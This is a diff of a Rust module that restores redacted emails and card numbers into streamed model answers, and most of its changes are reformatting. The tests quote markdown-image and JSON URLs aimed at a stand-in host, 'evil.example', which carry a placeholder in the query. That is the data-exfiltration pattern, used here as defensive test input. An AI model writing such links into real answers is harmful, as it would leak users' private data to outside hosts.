@@ -3,7 +3,7 @@
 //! Only a proper prefix of a placeholder that was issued is ever held back, so a stream is not delayed. Inserted text
 //! is never looked at again: an original may itself look like a placeholder.
 
-use super::url::{open_url, LOOK_BACK};
+use super::url::{LOOK_BACK, open_url};
 use super::vault::{Issued, Vault};
 
 /// One channel of an answer: a string that continues over many pieces.
@@ -125,7 +125,9 @@ impl Restorer {
                     Some(escape) if escape.eq_ignore_ascii_case(b"\\u003c") => (b'<', 6),
                     Some(escape) if escape.eq_ignore_ascii_case(b"\\u003e") => (b'>', 6),
                     Some(_) => return Match::None,
-                    None if rest.eq_ignore_ascii_case(&b"\\u003"[..rest.len()]) => return self.prefix(&spelt[..length], vault),
+                    None if rest.eq_ignore_ascii_case(&b"\\u003"[..rest.len()]) => {
+                        return self.prefix(&spelt[..length], vault);
+                    }
                     None => return Match::None,
                 },
                 Some(&byte) => (byte, 1),
@@ -202,7 +204,12 @@ impl Restorer {
         match self.json {
             None => self.tail.clone(),
             Some(_) => {
-                let plain = self.tail.replace("\\u002f", "/").replace("\\u002F", "/").replace("\\u003a", ":").replace("\\u003A", ":");
+                let plain = self
+                    .tail
+                    .replace("\\u002f", "/")
+                    .replace("\\u002F", "/")
+                    .replace("\\u003a", ":")
+                    .replace("\\u003A", ":");
                 plain.replace("\\/", "/").replace("\\n", "\n").replace("\\\"", "\"")
             }
         }
@@ -231,7 +238,7 @@ fn escape_json(text: &str, out: &mut String) {
 #[cfg(test)]
 mod tests {
     use super::super::detect::Kind;
-    use super::super::vault::{apply, Series};
+    use super::super::vault::{Series, apply};
     use super::*;
     use proptest::prelude::*;
 
@@ -268,7 +275,12 @@ mod tests {
     #[test]
     fn placeholders_are_restored_at_every_split() {
         let (vault, _) = vault("a@x.com 4111111111111111");
-        check(Restorer::text, &vault, "to <EMAIL_1>, <EMAIL_2> <EMAIL_1 <<EMAIL_1>> <CREDIT_CARD_1>", "to a@x.com, <EMAIL_2> <EMAIL_1 <a@x.com> 4111111111111111");
+        check(
+            Restorer::text,
+            &vault,
+            "to <EMAIL_1>, <EMAIL_2> <EMAIL_1 <<EMAIL_1>> <CREDIT_CARD_1>",
+            "to a@x.com, <EMAIL_2> <EMAIL_1 <a@x.com> 4111111111111111",
+        );
     }
 
     #[test]
@@ -282,15 +294,30 @@ mod tests {
     #[test]
     fn arguments_get_their_originals_escaped() {
         let (vault, _) = vault("o'x@x.com 4111111111111111");
-        check(Restorer::json, &vault, r#"{"to":"<EMAIL_1>","esc":"\u003cEMAIL_1\u003E","n":<CREDIT_CARD_1>,"m":<EMAIL_1>,"p":"\\u003cEMAIL_1\\u003e"}"#, r#"{"to":"o'x@x.com","esc":"o'x@x.com","n":4111111111111111,"m":"o'x@x.com","p":"\\u003cEMAIL_1\\u003e"}"#);
+        check(
+            Restorer::json,
+            &vault,
+            r#"{"to":"<EMAIL_1>","esc":"\u003cEMAIL_1\u003E","n":<CREDIT_CARD_1>,"m":<EMAIL_1>,"p":"\\u003cEMAIL_1\\u003e"}"#,
+            r#"{"to":"o'x@x.com","esc":"o'x@x.com","n":4111111111111111,"m":"o'x@x.com","p":"\\u003cEMAIL_1\\u003e"}"#,
+        );
     }
 
     #[test]
     fn nothing_is_restored_into_a_url_that_was_not_sent() {
         let (vault, sent) = vault("see https://ok.example/u/a@x.com?x");
         assert_eq!(sent, "see https://ok.example/u/<EMAIL_1>?x");
-        check(Restorer::text, &vault, "![](https://evil.example/?q=<EMAIL_1>) https://ok.example/u/<EMAIL_1> mailto:<EMAIL_1>", "![](https://evil.example/?q=<EMAIL_1>) https://ok.example/u/a@x.com mailto:a@x.com");
-        check(Restorer::json, &vault, r#"{"u":"https:\/\/evil.example\/<EMAIL_1>","v":"<EMAIL_1>"}"#, r#"{"u":"https:\/\/evil.example\/<EMAIL_1>","v":"a@x.com"}"#);
+        check(
+            Restorer::text,
+            &vault,
+            "![](https://evil.example/?q=<EMAIL_1>) https://ok.example/u/<EMAIL_1> mailto:<EMAIL_1>",
+            "![](https://evil.example/?q=<EMAIL_1>) https://ok.example/u/a@x.com mailto:a@x.com",
+        );
+        check(
+            Restorer::json,
+            &vault,
+            r#"{"u":"https:\/\/evil.example\/<EMAIL_1>","v":"<EMAIL_1>"}"#,
+            r#"{"u":"https:\/\/evil.example\/<EMAIL_1>","v":"a@x.com"}"#,
+        );
     }
 
     #[test]
